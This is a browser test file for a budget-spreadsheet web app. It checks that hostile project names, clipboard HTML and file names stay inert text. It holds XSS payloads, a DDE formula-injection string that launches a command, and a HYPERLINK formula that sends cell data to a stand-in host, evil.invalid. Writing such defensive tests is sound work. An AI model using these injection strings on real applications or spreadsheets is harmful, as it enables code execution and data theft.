import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { read, type CellObject } from '@e965/xlsx';
import { OPENING_MS, PageUnderTest, siteAddress, TEST_MS } from '../support/browser/page';

/*
 * Text of a document is text, wherever it goes: the pane, the cells, the notes, the file and its name.
 */

const SAMPLE = readFileSync('assets/samples/shanxi-budget-2024.txt', 'utf8');
const SCRIPT = '<img src=x onerror=window.hit=1>水利局';
const PROJECTS = [
  `=HYPERLINK("http://evil.invalid/?"&A1,"点我")`,
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '<script>window.hit=1</script>',
  '"><svg/onload=window.hit=1>',
];

/** The sample with an entity and projects of evil names. */
function hostile(): string {
  const names = [
    '山洪灾害防治非工程措施运行维护',
    '小型水库维修养护',
    '农村饮水工程维修养护',
    '河长制工作经费',
    '大中型水库移民后期扶持',
    '水土流失综合治理',
  ];
  return names.reduce(
    (text, name, index) => text.replaceAll(name, PROJECTS[index]!),
    SAMPLE.replaceAll('栖云县水利局', SCRIPT),
  );
}

describe('hostile documents in the page', function () {
  this.timeout(TEST_MS);
  let ui: PageUnderTest;

  before('build and serve', async function () {
    this.timeout(OPENING_MS);
    await siteAddress();
  });
  beforeEach(async () => {
    ui = await PageUnderTest.open();
  });
  afterEach(() => ui.close());

  async function nothingRan(): Promise<void> {
    await ui.page.waitForTimeout(100);
    assert.equal(await ui.page.evaluate(() => (window as { hit?: number }).hit), undefined);
    assert.equal(await ui.page.locator('#pane img, #pane script, #pane svg, #pane iframe').count(), 0);
  }

  it('names that are markup or formulas stay names in pane, cells and file', async () => {
    await ui.fill(hostile());
    await nothingRan();
    const { sheets } = await ui.plan();
    const projects = sheets.find(({ name }) => name === '项目支出预算表（本年预算）')!;
    const column = projects.values.map(([first]) => first);
    // Marks of markup are taken out of names when they are read; what is left is a name.
    for (const name of PROJECTS.slice(0, 4)) assert.ok(column.includes(name), name);
    const formulas = await ui.inUniver((book) => {
      const found: string[] = [];
      for (const sheet of book.getSheets()) {
        sheet
          .getSheet()
          .getCellMatrix()
          .forValue((_row, _column, cell) => {
            if (cell?.f) found.push(cell.f);
          });
      }
      return found;
    }, undefined);
    assert.ok(
      formulas.every((formula) =>
        /^=HYPERLINK\("#'[^"]*'![A-Z]+\d+","(?:见该表|(?:[^"]+ )?[A-Z]+\d+)"\)$/.test(formula),
      ),
      formulas.join(),
    );

    const downloading = ui.page.waitForEvent('download');
    await ui.button('导出工作簿').click();
    const download = await downloading;
    assert.match(download.suggestedFilename(), /^[^\\/:*?"<>|]+\.xlsx$/);
    const file = read(readFileSync(await download.path()), { cellFormula: true });
    for (const sheet of Object.values(file.Sheets)) {
      for (const cell of Object.values(sheet) as CellObject[]) {
        if (cell?.f !== undefined) assert.match(cell.f, /^HYPERLINK\("#'/);
      }
    }
    const saved = Object.values(file.Sheets['项目支出预算表（本年预算）']!).map((cell) => (cell as CellObject).v);
    for (const name of PROJECTS.slice(0, 4)) assert.ok(saved.includes(name), name);
  });

  it('so do messages, notes and evidence', async () => {
    const text = hostile().replace(/^(=cmd.*\t)148\.00/m, '$1184.00');
    await ui.fill(text);
    assert.ok((await ui.findings.count()) >= 3);
    for (const summary of await ui.list.locator('summary:visible').all()) await summary.click();
    await nothingRan();
    const { marks } = await ui.plan();
    assert.ok(marks.some((mark) => mark.text.includes('cmd|')));
  });

  it('markup on the clipboard is read, never run', async () => {
    await ui.text.evaluate((element) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData(
        'text/html',
        `<table onclick="window.hit=1"><tr><td>甲<script>window.hit=1</script><td><img src="http://evil.invalid/x.png" onerror="window.hit=1">1.00
         <tr><td><iframe src="http://evil.invalid/"></iframe>乙<td>2.00</table><link rel=stylesheet href="http://evil.invalid/x.css">`,
      );
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    });
    await ui.said(/已粘贴表格/);
    assert.equal(await ui.text.inputValue(), '甲\t1.00\n乙\t2.00');
    await nothingRan();
  });

  it('the name of a file is text too', async () => {
    const chooser = ui.page.waitForEvent('filechooser');
    await ui.button('选择文件').click();
    await (
      await chooser
    ).setFiles({ name: '<img src=x onerror=window.hit=1>.txt', mimeType: 'text/plain', buffer: Buffer.from([0, 1]) });
    await ui.alert.filter({ hasText: '<img src=x' }).waitFor();
    await nothingRan();
  });

  it('a megabyte of noise is answered, and the page goes on', async () => {
    const noise = Array.from(
      { length: 20_000 },
      (_, line) => `${line * 7919}\t第${line}行 ${'噪声'.repeat(line % 9)}\t${line}.${line % 100}`,
    ).join('\n');
    await ui.text.fill(noise);
    await ui.button('识别').click();
    await ui.page.waitForFunction(() => !document.querySelector('[role=progressbar]')?.checkVisibility());
    await ui.recognize(SAMPLE);
  });
});
